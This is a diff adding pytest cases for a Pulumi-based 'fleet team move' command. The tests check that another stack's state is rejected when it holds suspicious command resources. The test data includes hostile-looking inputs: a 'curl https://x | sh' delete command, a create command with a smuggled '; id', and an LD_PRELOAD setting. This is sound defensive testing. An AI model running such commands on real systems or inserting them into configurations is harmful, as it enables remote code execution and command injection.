@@ -1,11 +1,13 @@
 """`fleet team move`: which of Pulumi's commands take a team along, and what is said."""
 
+import re
 from types import SimpleNamespace
 
 import pytest
 from pulumi.automation import CommandResult
 from pulumi.automation.errors import create_command_error
 
+from kai_fleet import probes
 from kai_fleet.releases.helm_record import Forged
 from kai_fleet_cli import cluster_reader
 from kai_fleet_cli.engine import runs
@@ -121,7 +123,8 @@ def test_a_record_that_is_well_or_not_read_stops_no_move(monkeypatch, records):
     monkeypatch.setattr(live_cluster, "LiveCluster", Records)
     said, ran = moved(monkeypatch, more=[HOST, RELEASE])
     assert len(ran) == 3
-    assert ("was not looked at: it does not answer" in said[0]) is (records is None)
+    unread = any("was not looked at: it does not answer" in it for it in said)
+    assert unread is (records is None)
 
 
 def test_a_record_that_somebody_wrote_does_not_come_along(monkeypatch):
@@ -131,3 +134,60 @@ def test_a_record_that_somebody_wrote_does_not_come_along(monkeypatch):
     with pytest.raises(UserError, match="has a hook, Job steal") as why:
         moved(monkeypatch, more=[HOST, RELEASE])
     assert "Nothing was done" in str(why.value)
+
+
+HOST_ID = f"{HOST_PROVIDER}::id"
+OWN = {"delete": probes.command("pods"), "environment": {"PODS_NAMESPACE": "team-ml"}}
+
+
+def beside(kind, inputs, **more):
+    """A part of the vCluster that its own stack's state has, and its providers."""
+    urn = INSIDE.replace("VirtualCluster::ml", f"VirtualCluster${kind}::odd")
+    return [resource(urn, kind, INSIDE, inputs=inputs, provider=HOST_ID, **more), HOST]
+
+
+@pytest.mark.parametrize(
+    ("kind", "inputs", "says"),
+    [
+        ("command:local:Command", {"delete": "curl https://x | sh"}, "has another delete"),
+        ("command:local:Command", {"create": f"{probes.command('pods')}; id"}, "another create"),
+        ("command:local:Command", OWN | {"interpreter": ["/bin/x"]}, "has interpreter"),
+        ("command:local:Command", {"environment": {"LD_PRELOAD": "/x"}}, "sets LD_PRELOAD"),
+        ("command:local:Command", {"environment": {"KAI_FLEET_X": "y"}}, "sets KAI_FLEET_X"),
+        ("command:remote:Command", {}, "is a command:remote:Command"),
+        ("pulumi:providers:other", {}, "is a pulumi:providers:other"),
+        (
+            "pulumi:providers:kubernetes",
+            {"__internal": {"pluginDownloadURL": "https://x"}},
+            "says where its plugin comes from",
+        ),
+    ],
+)
+def test_what_the_other_stack_would_run_moves_nowhere(monkeypatch, kind, inputs, says):
+    """A team's own stack writes its state; the engine deletes by it what is not declared."""
+    with pytest.raises(UserError, match=f"odd in the state of stack lab .*{re.escape(says)}"):
+        moved(monkeypatch, more=beside(kind, inputs))
+
+
+def test_what_this_program_declares_moves(monkeypatch):
+    own = {"create": 'printf %s "$CLUSTER"', "environment": {"CLUSTER": "x"}, "triggers": ["x"]}
+    for inputs in (OWN, own, {"update": probes.command("kai", "wait"), "logging": "stderr"}):
+        said, _ = moved(monkeypatch, more=beside("command:local:Command", inputs))
+        assert not [it for it in said if it.startswith("warning")]
+
+
+def test_a_kubeconfig_that_goes_along_is_told_before_the_question(monkeypatch):
+    plain = "clusters: []\nusers: []\n"
+    for text, warnings in ((plain, 1), (f"{plain}x: {{exec: {{command: aws}}}}\n", 2)):
+        monkeypatch.setitem(HOST, "inputs", {"kubeconfig": text})
+        said, _ = moved(monkeypatch, more=beside("command:local:Command", OWN))
+        assert len([it for it in said if it.startswith("warning")]) == warnings
+
+
+def test_before_the_question_no_kubeconfig_of_the_state_is_used(monkeypatch):
+    def no():
+        raise UserError("nothing is changed")
+
+    monkeypatch.setattr(live_cluster, "LiveCluster", pytest.fail)
+    with pytest.raises(UserError, match="nothing is changed"):
+        moved(monkeypatch, agree=no, more=[HOST, RELEASE])
